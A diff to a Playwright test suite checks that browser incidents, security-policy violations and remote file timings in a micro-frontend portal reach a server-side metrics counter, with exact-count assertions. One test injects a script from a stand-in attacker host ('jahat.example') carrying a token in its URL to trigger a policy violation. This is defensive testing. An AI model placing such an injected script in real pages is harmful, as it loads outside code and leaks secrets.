@@ -1,3 +1,4 @@
+import type { Page } from '@playwright/test';
 import { faults, publishedRemote, serveEntry } from '../../support/broken-remote';
 import { expect, test } from '../../support/portal';
 import { metricsToken, servers } from '../../support/servers';
@@ -18,6 +19,19 @@ async function figureOf(name: string, labels: Record<string, string>): Promise<n
   return Number(line?.split(' ').at(-1) ?? 0);
 }
 
+/** How many files of a remote the page has told its wait for, up to now. */
+function timesToldBy(page: Page, { remote, versi }: { remote: string; versi: string }): () => number {
+  let told = 0;
+  page.on('request', (request) => {
+    if (!request.url().endsWith('/api/insiden')) return;
+    const { waktu } = request.postDataJSON() as {
+      waktu: readonly { remote: string; versi: string; lama: readonly number[] }[];
+    };
+    for (const one of waktu) if (one.remote === remote && one.versi === versi) told += one.lama.length;
+  });
+  return () => told;
+}
+
 test('what goes wrong in a remote reaches the server under its name and version', async ({ page }) => {
   const published = await publishedRemote(servers.demo.origin);
   const { version } = published.entry;
@@ -34,11 +48,11 @@ test('what goes wrong in a remote reaches the server under its name and version'
   expect(request.headers().cookie).toBeUndefined();
   expect(request.postData()).toContain('GAGAL_TAMPIL');
   expect(request.postData()).not.toContain('satuan_kerja_id');
-  await expect.poll(() => figureOf('selaras_insiden_peramban_total', labels)).toBeGreaterThan(before);
+  await expect.poll(() => figureOf('selaras_insiden_peramban_total', labels)).toBe(before + 1);
 });
 
 test('a violation of the security policy reaches the server', async ({ page }) => {
-  const labels = { jenis: 'csp', remote: 'shell' };
+  const labels = { jenis: 'csp', remote: 'shell', versi: '' };
   const before = await figureOf('selaras_insiden_peramban_total', labels);
   await page.goto('/');
   await page.evaluate(() => {
@@ -46,14 +60,18 @@ test('a violation of the security policy reaches the server', async ({ page }) =
     script.src = 'https://jahat.example/a.js?token=rahasia';
     document.head.append(script);
   });
-  await expect.poll(() => figureOf('selaras_insiden_peramban_total', labels)).toBeGreaterThan(before);
+  await expect.poll(() => figureOf('selaras_insiden_peramban_total', labels)).toBe(before + 1);
 });
 
 test('how long the files of a remote are waited for reaches the server', async ({ page }) => {
   const { entry } = await publishedRemote(servers.demo.origin);
   const labels = { remote: 'mf_cascading', versi: entry.version };
   const before = await figureOf('selaras_remote_berkas_detik_count', labels);
+  const told = timesToldBy(page, labels);
   await page.goto(PAGE.path);
   await expect(page.locator('[data-state=ready]')).toBeVisible();
-  await expect.poll(() => figureOf('selaras_remote_berkas_detik_count', labels)).toBeGreaterThan(before);
+  await expect.poll(told).toBeGreaterThan(0);
+  await expect
+    .poll(async () => (await figureOf('selaras_remote_berkas_detik_count', labels)) - told())
+    .toBe(before);
 });
